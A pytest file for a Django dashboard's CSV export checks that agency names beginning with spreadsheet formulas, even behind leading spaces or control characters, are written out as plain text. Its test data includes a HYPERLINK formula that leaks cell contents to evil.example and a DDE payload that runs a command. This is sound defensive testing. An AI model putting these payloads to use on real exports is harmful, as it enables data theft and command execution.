"""The dashboard's CSV (计入统计的报告数据) with agency names that are formulas behind
spaces: ` =HYPERLINK(…)`, an ideographic space or a no-break space first. A
spreadsheet that trims fields on import (LibreOffice's 去除空格) ran them; each is
written as text (a leading apostrophe), as the bare `=…` already was."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

SPACED = [" =HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")局", "\u3000=1+1局", "\xa0@SUM(A1:A9)局",
          "  +1+cmd|' /C calc'!A0局", "\n-1+1局", "\x00=1+1局"]


@pytest.mark.parametrize("agency", SPACED)
def test_dashboard_cells_write_spaced_formulas_as_text(login, stored, agency):
    row = stored()
    row.data = {**row.data, "agency": agency}
    row.save()
    r = login("reader").get("/dashboard/cells.csv")
    fields = [f for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for f in line]
    named = [f for f in fields if f.endswith("局") and f.lstrip("'").lstrip(" \u3000\xa0\n\x00")[:1] in "=+-@"]
    assert named and {f for f in named} == {"'" + agency}
